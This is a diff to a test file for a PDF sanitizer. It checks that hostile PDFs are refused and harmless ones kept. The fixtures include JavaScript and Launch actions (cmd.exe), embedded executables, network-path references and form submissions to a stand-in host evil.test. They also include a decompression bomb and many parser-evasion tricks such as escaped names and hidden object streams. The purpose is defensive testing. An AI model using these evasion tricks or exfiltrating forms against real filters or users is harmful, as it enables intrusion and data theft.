@@ -32,11 +32,11 @@ const deflated = deflateSync(objects)
 const plainKeys = `/Type /ObjStm /N 1 /First 4 /Length ${deflated.length}`
 
 const evasivePdfs: [string, Buffer, RefusalReason][] = [
-  ['a comment inside the filter', pdfOf(pack(`${plainKeys} /Filter %\n/FlateDecode`, deflated)), 'active'],
+  ['a comment inside the filter', pdfOf(pack(`${plainKeys} /Filter %\n/FlateDecode`, deflated)), 'script'],
   [
     'a comment inside a list of filters',
     pdfOf(pack(`${plainKeys} /Filter [%]\n/FlateDecode]`, deflated)),
-    'active',
+    'script',
   ],
   [
     'a filter in another object',
@@ -46,17 +46,17 @@ const evasivePdfs: [string, Buffer, RefusalReason][] = [
   [
     'a dictionary of more than 4 KB',
     pdfOf(pack(`/Pad (${'x'.repeat(6000)}) ${plainKeys} /Filter /FlateDecode`, deflated)),
-    'active',
+    'script',
   ],
   [
     'a dictionary that is padded behind its type',
     pdfOf(pack(`${plainKeys} /Pad (${'x'.repeat(6000)}) /Filter /FlateDecode`, deflated)),
-    'active',
+    'script',
   ],
   [
     'an object stream without its type',
     pdfOf(pack(`/N 1 /First 4 /Length ${deflated.length} /Filter /FlateDecode`, deflated)),
-    'active',
+    'script',
   ],
   [
     'an object stream with its type in another object',
@@ -88,31 +88,57 @@ const evasivePdfs: [string, Buffer, RefusalReason][] = [
   [
     'an object stream that is not packed',
     pdfOf(pack(`/Type /ObjStm /N 1 /First 4 /Length ${objects.length}`, objects)),
-    'active',
+    'script',
   ],
-  ['an object inside of a string of an object stream', pdfOf(hiddenInString()), 'active'],
+  ['an object inside of a string of an object stream', pdfOf(hiddenInString()), 'script'],
   [
     'an object inside of a stream',
     pdfOf(`5 0 obj << /Length 999 >> stream\n9 0 obj ${script} endobj\nendstream endobj`),
-    'active',
+    'script',
   ],
-  ['an object behind a comment', pdfOf(`7 %\n0 %obj\nobj ${script} endobj`), 'active'],
-  ['an object whose number touches its word', pdfOf(`7 0obj${script}endobj`), 'active'],
-  ['a type that is given twice', pdfOf('7 0 obj << /S /JavaScript /S /GoTo /JS (1) >> endobj'), 'active'],
-  ['a dictionary that breaks off', pdfOf('7 0 obj << /A endobj /S /Java#53cript /JS (1)'), 'active'],
+  ['an object behind a comment', pdfOf(`7 %\n0 %obj\nobj ${script} endobj`), 'script'],
+  ['an object whose number touches its word', pdfOf(`7 0obj${script}endobj`), 'script'],
+  ['a type that is given twice', pdfOf('7 0 obj << /S /JavaScript /S /GoTo /JS (1) >> endobj'), 'script'],
+  ['a dictionary that breaks off', pdfOf('7 0 obj << /A endobj /S /Java#53cript /JS (1)'), 'script'],
   [
     'a dictionary with a stray word',
     pdfOf(`7 0 obj << /A [ 1 >> ] stray /S /Java#53cript /JS (1) >> endobj`),
-    'active',
+    'script',
   ],
-  ['script in a rendition', pdfOf('7 0 obj << /S /Rendition /JS (app.alert\\(1\\)) >> endobj'), 'active'],
+  ['script in a rendition', pdfOf('7 0 obj << /S /Rendition /JS (app.alert\\(1\\)) >> endobj'), 'media'],
   [
     'a file under a platform of its own',
     pdfOf('7 0 obj << /DOS (a.exe) /EF << /F 9 0 R >> >> endobj'),
-    'active',
+    'attachments',
   ],
-  ['a file without its type', pdfOf('7 0 obj << /F (a.exe) /EF << /F 9 0 R >> >> endobj'), 'active'],
-  ['escapes in lower case', pdfOf('7 0 obj << /S /#6aavaScript /S /#4aavaScript >> endobj'), 'active'],
+  ['a file without its type', pdfOf('7 0 obj << /F (a.exe) /EF << /F 9 0 R >> >> endobj'), 'attachments'],
+  ['a script whose action breaks off', pdfOf('7 0 obj << /S /JavaScript /JS (1) x'), 'script'],
+  [
+    'data from a file elsewhere',
+    pdfOf('7 0 obj << /F (\\\\\\\\srv\\\\a) /Length 0 >> stream\nendstream endobj'),
+    'network',
+  ],
+  [
+    'a network path in UTF-16',
+    pdfOf('7 0 obj << /S /GoToR /F <feff005c005c007300720076005c0061> >> endobj'),
+    'network',
+  ],
+  [
+    'a network path behind escapes',
+    pdfOf('7 0 obj << /Type /Filespec /UF (\\134\\134srv\\134a) >> endobj'),
+    'network',
+  ],
+  [
+    'a server as an absolute path',
+    pdfOf('7 0 obj << /S /GoToR /F (/server/share/a.pdf) >> endobj'),
+    'network',
+  ],
+  [
+    'a button whose address is unclear',
+    pdfOf('7 0 obj << /A << /S /SubmitForm /F 8 0 R >> >> endobj 8 0 obj (https://evil.test) endobj'),
+    'submits',
+  ],
+  ['escapes in lower case', pdfOf('7 0 obj << /S /#6aavaScript /S /#4aavaScript >> endobj'), 'script'],
   ['a name that is escaped twice', pdfOf('7 0 obj << /S /#234AavaScript >> endobj'), 'disguised'],
   ['a password in an older revision', pdfOf('trailer << /Encr#79pt 9 0 R >>\n%%EOF\n'), 'encrypted'],
   [
@@ -120,9 +146,20 @@ const evasivePdfs: [string, Buffer, RefusalReason][] = [
     pdfOf('9 0 obj << /Type /XRef /Encrypt 8 0 R >> stream\nendstream endobj'),
     'encrypted',
   ],
-  ['script in an older revision', pdfOf(`7 0 obj ${script} endobj\n%%EOF\n7 0 obj null endobj\n`), 'active'],
+  ['script in an older revision', pdfOf(`7 0 obj ${script} endobj\n%%EOF\n7 0 obj null endobj\n`), 'script'],
   ['a million nested lists', pdfOf(`7 0 obj ${'['.repeat(1_000_000)} endobj`), 'complex'],
   ['an object of a million numbers', pdfOf(`7 0 obj [${' 1'.repeat(1_000_000)}] endobj`), 'complex'],
+  ['many places where an object may begin', pdfOf('0obj'.repeat(100_000)), 'complex'],
+  [
+    'small objects that pack to almost nothing',
+    pdfOf(
+      pack(
+        plainKeys.replace('/Length', '/Filter /FlateDecode /Length'),
+        deflateSync('7 0 '.repeat(1_000_000)),
+      ),
+    ),
+    'bomb',
+  ],
   ['many objects inside of each other', pdfOf(`${'7 0 obj ('.repeat(200_000)}`), 'complex'],
 ]
 
@@ -130,29 +167,89 @@ test.for(evasivePdfs)('a PDF with %s is refused', async ([, content, reason]) =>
   await expect(taken(content)).rejects.toThrow(refusals[reason])
 })
 
+const submit = (target: string) =>
+  dictionary({ S: name('SubmitForm'), F: dictionary({ FS: name('URL'), F: target }) })
+
 const hostilePdfs: [string, PdfContent, RefusalReason][] = [
-  ['script', { catalog: { OpenAction: dictionary({ S: name('JavaScript'), JS: '(1)' }) } }, 'active'],
+  ['script', { catalog: { OpenAction: dictionary({ S: name('JavaScript'), JS: '(1)' }) } }, 'script'],
   [
     'script in an object of its own',
     { catalog: { AA: ref(10) }, objects: [dictionary({ O: ref(11) }), script] },
-    'active',
+    'script',
   ],
-  ['a rendition', { catalog: { OpenAction: dictionary({ S: name('Rendition'), JS: '(1)' }) } }, 'active'],
-  ['a program', { catalog: { OpenAction: dictionary({ S: name('Launch'), F: '(cmd.exe)' }) } }, 'active'],
+  ['a rendition', { catalog: { OpenAction: dictionary({ S: name('Rendition'), R: ref(4) }) } }, 'media'],
+  ['a program', { catalog: { OpenAction: dictionary({ S: name('Launch'), F: '(cmd.exe)' }) } }, 'launch'],
   [
     'files',
     { catalog: { Names: dictionary({ EmbeddedFiles: ref(10) }) }, objects: [dictionary({ Names: [] })] },
-    'active',
+    'attachments',
   ],
   [
     'a file',
     { catalog: {}, objects: [dictionary({ F: '(a.exe)', EF: dictionary({ F: ref(4) }) })] },
-    'active',
+    'attachments',
   ],
   [
     'a film',
     { catalog: {}, objects: [dictionary({ Type: name('Annot'), Subtype: name('RichMedia') })] },
-    'active',
+    'media',
+  ],
+  ...(['ImportData', 'Movie', 'RichMediaExecute', 'GoTo3DView', 'GoToE'] as const).map(
+    (action): [string, PdfContent, RefusalReason] => [
+      action,
+      { catalog: {}, objects: [dictionary({ A: dictionary({ S: name(action), F: '(a.pdf)' }) })] },
+      action === 'ImportData' ? 'imports' : action === 'GoToE' ? 'attachments' : 'media',
+    ],
+  ),
+  ['a 3D model', { catalog: {}, objects: [dictionary({ Subtype: name('3D'), '3DD': ref(4) })] }, 'media'],
+  ...[
+    '(//srv/a.pdf)',
+    '(\\\\\\\\srv\\\\a.pdf)',
+    '(smb://srv/a)',
+    '(http://evil.test/a.pdf)',
+    '<5c5c7372765c61>',
+  ].flatMap((target): [string, PdfContent, RefusalReason][] => [
+    ...['GoToR', 'Thread'].map((action): [string, PdfContent, RefusalReason] => [
+      `${action} to ${target}`,
+      { catalog: {}, objects: [dictionary({ S: name(action), F: target, D: [0, name('Fit')] })] },
+      'network',
+    ]),
+    [
+      `a file specification of ${target}`,
+      { catalog: {}, objects: [dictionary({ S: name('GoToR'), F: dictionary({ F: target }) })] },
+      'network',
+    ],
+  ]),
+  ['a form that is sent at once', { catalog: { OpenAction: submit('(https://evil.test/)') } }, 'submits'],
+  [
+    'a form that is sent by a page',
+    { catalog: { AA: dictionary({ O: submit('(https://evil.test/)') }) } },
+    'submits',
+  ],
+  [
+    'a form that is sent at the end of a chain',
+    {
+      catalog: { OpenAction: dictionary({ S: name('GoTo'), Next: [submit('(https://evil.test/)')] }) },
+    },
+    'submits',
+  ],
+  [
+    'a form that is sent at the end of a chain of objects',
+    {
+      catalog: { OpenAction: ref(10) },
+      objects: [dictionary({ S: name('Named'), Next: ref(11) }), submit('(https://evil.test/)')],
+    },
+    'submits',
+  ],
+  [
+    'a form that is sent to a file server',
+    { catalog: {}, objects: [dictionary({ A: submit('(//srv/a)') })] },
+    'submits',
+  ],
+  [
+    'a form that is sent in plain text',
+    { catalog: {}, objects: [dictionary({ A: submit('(http://evil.test)') })] },
+    'submits',
   ],
   [
     'a password',
@@ -166,6 +263,12 @@ const harmlessPdfs: PdfContent[] = [
   { catalog: { OpenAction: dictionary({ S: name('GoTo'), D: [ref(3), name('Fit')] }) } },
   { catalog: { Lang: '(/JavaScript obj <<)' }, objects: ['(\\(/Launch\\))', '<2f4c>', 'null'] },
   { catalog: {}, objects: [dictionary({ S: name('URI'), URI: '(https://clinic.test)' }), 'true'] },
+  { catalog: {}, objects: [dictionary({ Type: name('Font'), BaseFont: name('LaunchPad-Bold') })] },
+  { catalog: {}, objects: [dictionary({ Type: name('Font'), BaseFont: name('JavaScriptSans') })] },
+  { catalog: {}, trailer: { Info: dictionary({ Title: '(<Body weight>)', Keywords: '(<script>)' }) } },
+  { catalog: {}, objects: [dictionary({ S: name('GoToR'), F: '(neighbor.pdf)', D: [0, name('Fit')] })] },
+  { catalog: {}, objects: [dictionary({ S: name('GoToR'), F: '(../a/b.pdf)', D: [0, name('Fit')] })] },
+  { catalog: {}, objects: [dictionary({ S: name('Sound'), Sound: ref(4) })] },
   { catalog: { AcroForm: dictionary({ Fields: [] }) }, trailer: { Info: dictionary({ Title: '(JS)' }) } },
 ]
 
@@ -185,6 +288,25 @@ test('however it is spelled, a harmless PDF is kept as it is', () =>
     }),
     { numRuns: runs(100) },
   ))
+
+const buttons: [string, Buffer][] = ['(https://clinic.test/)', '(mailto:desk@clinic.test)'].flatMap(
+  (target) => {
+    const action = `<< /S /SubmitForm /F << /FS /URL /F ${target} >> >>`
+    return [
+      [`sends a form to ${target}`, pdfOf(`7 0 obj << /Subtype /Widget /A ${action} >> endobj`)],
+      [
+        `sends a form to ${target} by another object`,
+        pdfOf(
+          `1 0 obj << /OpenAction [3 0 R /Fit] >> endobj 7 0 obj << /A 8 0 R >> endobj 8 0 obj ${action} endobj`,
+        ),
+      ],
+    ]
+  },
+)
+
+test.for(buttons)('a PDF with a button that %s is kept as it is', async ([, content]) => {
+  expect(await taken(content)).toMatchObject({ removed: [], kept: content })
+})
 
 test('changed bytes end in a refusal or in nothing, never in a fault', async () => {
   const files = [
